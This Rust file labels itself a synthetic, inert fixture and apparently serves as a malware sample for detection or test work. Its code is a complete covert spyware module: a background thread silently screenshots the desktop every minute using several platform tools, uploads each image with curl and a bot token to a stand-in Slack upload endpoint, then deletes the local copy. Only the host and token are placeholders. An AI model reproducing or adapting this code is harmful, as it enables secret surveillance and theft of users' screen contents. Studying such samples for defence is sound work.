// Synthetic, inert fixture written from public reports
use std::process::{Command, Stdio};
use std::sync::Once;
use std::thread;
use std::time::Duration;

static ONCE: Once = Once::new();
const UPLOAD: &str = "https://files.slack.invalid/api/files.upload";
const TOKEN: &str = "xoxb-FIXTURE-NOT-A-TOKEN";

pub fn start() {
    ONCE.call_once(|| {
        thread::spawn(|| loop {
            shot();
            thread::sleep(Duration::from_secs(60));
        });
    });
}

fn shot() {
    let file = std::env::temp_dir().join("~desk0.png");
    let path = file.to_string_lossy().into_owned();
    let tools: [(&str, Vec<&str>); 4] = [
        ("screencapture", vec!["-x", &path]),
        ("grim", vec![&path]),
        ("import", vec!["-window", "root", &path]),
        ("scrot", vec!["-o", &path]),
    ];
    for (tool, args) in tools {
        let done = Command::new(tool).args(args).stderr(Stdio::null()).status();
        if done.map_or(false, |s| s.success()) {
            break;
        }
    }
    let _ = Command::new("curl")
        .args(["-s", "-F", &format!("file=@{path}"), "-F", "channels=C0000000"])
        .args(["-H", &format!("Authorization: Bearer {TOKEN}"), UPLOAD])
        .stdout(Stdio::null())
        .status();
    let _ = std::fs::remove_file(&file);
}
